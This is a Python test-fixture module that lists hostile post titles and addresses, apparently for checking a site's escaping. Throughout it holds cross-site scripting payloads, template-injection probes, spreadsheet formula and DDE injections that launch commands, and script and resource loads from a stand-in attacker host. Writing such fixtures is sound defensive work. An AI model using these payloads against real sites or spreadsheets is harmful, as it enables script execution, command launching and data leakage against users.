"""Titles that try to run, to call out, to break a table or to become a formula, as posts may carry them."""

from __future__ import annotations

CALL = "document.title='x'"
HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpageshow",
    "onwheel", "onbegin", "onscroll", "oncut", "onauxclick", "onpointerenter", "ontransitionend",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "vbscript:", "data:text/html,",
    "blob:", "file:///", "//boese.example/", "https:boese.example", "view-source:", "intent:",
    "ms-word:", "livescript:",
)  # fmt: skip
MARKUP = (
    f"<script>{CALL}</script>拼豆",
    f"<ScRiPt>{CALL}</sCrIpT>",
    "<script src=https://boese.example/x.js></script>",
    f"</script><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</noscript><img src=x onerror={CALL}>",
    f"</td></tr></table><script>{CALL}</script>",
    f"</data></a><img src=x onerror={CALL}>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f"<!--<script>{CALL}//-->",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x>",
    f"<svg><set attributeName=onload to={CALL}>",
    f"<svg><use href='data:image/svg+xml,<svg onload={CALL}>'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>top.{CALL}</script>'></foreignObject></svg>",
    f"<math><mtext></p><style><img title='</style><img src onerror={CALL}>'>",
    f"<math href=javascript:{CALL}>点</math>",
    f"<iframe srcdoc='<script>top.{CALL}</script>'></iframe>",
    "<iframe src=https://boese.example></iframe>",
    f"<object data='javascript:{CALL}'></object>",
    "<embed src=https://boese.example/x.swf>",
    "<link rel=stylesheet href=https://boese.example/x.css>",
    "<style>@import 'https://boese.example/x.css';</style>",
    "<style>*{background:url(https://boese.example/x)}</style>",
    "<p style='background:url(https://boese.example/x)'>",
    "<base href=https://boese.example/>",
    "<meta http-equiv=refresh content='0;url=https://boese.example'>",
    f"<form action=javascript:{CALL}><button autofocus>点</button></form>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    "<img src=https://boese.example/像素.gif>",
    "<img srcset='https://boese.example/x 2x'>",
    "<video poster=https://boese.example/x><source src=https://boese.example/y></video>",
    "<audio src=https://boese.example/x autoplay>",
    f"<a href='javascript:{CALL}'>点</a>",
    "<a ping=https://boese.example href=#x>点</a>",
    f"<marquee onstart={CALL}>跑马灯</marquee>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"＜script＞{CALL}＜/script＞",
    f"<\x00script>{CALL}</script>",
    f"<scr\u200bipt>{CALL}</scr\u200bipt>",
    "{{ 7*7 }} {% raw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{% include '/etc/hostname' %}",
)
ATTRIBUTES = tuple(
    text
    for handler in HANDLERS
    for text in (f'" autofocus tabindex=1 {handler}="{CALL}" x="', f"<img src=x {handler}={CALL}>")
)
TAGS = (
    "body", "svg", "video src=x", "audio src=x", "details open", "input autofocus", "select autofocus",
    "textarea autofocus", "marquee", "div tabindex=1", "button autofocus", "object data=x", "embed src=x",
    "iframe src=x", "link rel=icon href=x", "math", "a href=# autofocus",
)  # fmt: skip
ELEMENTS = tuple(f"<{tag} {handler}={CALL}>拼豆" for tag in TAGS for handler in HANDLERS)
LINKS = tuple(
    text
    for scheme in SCHEMES
    for text in (
        f"[点我]({scheme}{CALL})",
        f"<a href='{scheme}{CALL}'>点我</a>",
        f"<form action='{scheme}{CALL}'><button>点我</button></form>",
        f"<svg><a xlink:href='{scheme}{CALL}'><text>点我</text></a></svg>",
    )
)
FORMULAS = (
    '=HYPERLINK("https://boese.example","点我")', "+cmd|'/C calc'!A0", "@SUM(1+1)*cmd", "-2+3", "=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "\t=1+1", "\r=1+1", " =1+1",
    "'=1+1", '"=1+1', "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "{=1+1}", '=IMPORTXML("https://boese.example","//a")', "https://boese.example", "mailto:x@boese.example",
)  # fmt: skip
LAYOUT = (
    "\u202e反转的标题\u202c", "\u2066隔离\u2069", "| 表格 | 破坏 |",
    "[链接](https://boese.example) `码`", "![图](https://boese.example/x.png)",
    "# 标题\n\n- 列表", "```\n码\n```", "~~删~~ **粗** _斜_",
    "零宽\u200b字符\ufeff与\x07控制", "第一行\r\n第二行\u2028第三行\u2029",
    "مرحبا بالعالم", "👨‍👩‍👧‍👦🏳️‍🌈拼豆🫘", "Z̷̧̢͎̻̼͝ā̸͕l̶̦͘ǵ̸̯o̴̢͝", "A" * 3000, "长" * 40_000,
    "\u0085\u00a0\u3000空白", "\ud7ff\ue000私用区",
)  # fmt: skip
DISGUISED = tuple(f"{before}{formula}" for before in (" ", "\u200b", "\n", "\u3000") for formula in FORMULAS)
HOSTILE_TITLES: tuple[str, ...] = (
    *MARKUP, *ATTRIBUTES, *ELEMENTS, *LINKS, *FORMULAS, *DISGUISED, *LAYOUT,
)  # fmt: skip
HOSTILE_ADDRESSES: tuple[str, ...] = (
    *(f"{scheme}{CALL}" for scheme in SCHEMES),
    f'https://www.bilibili.com/" onclick="{CALL}',
    "https://用户:密码@boese.example/",
    "https://www.bilibili.com/) [点](javascript:1",
    "http://",
    "https://[boese",
)
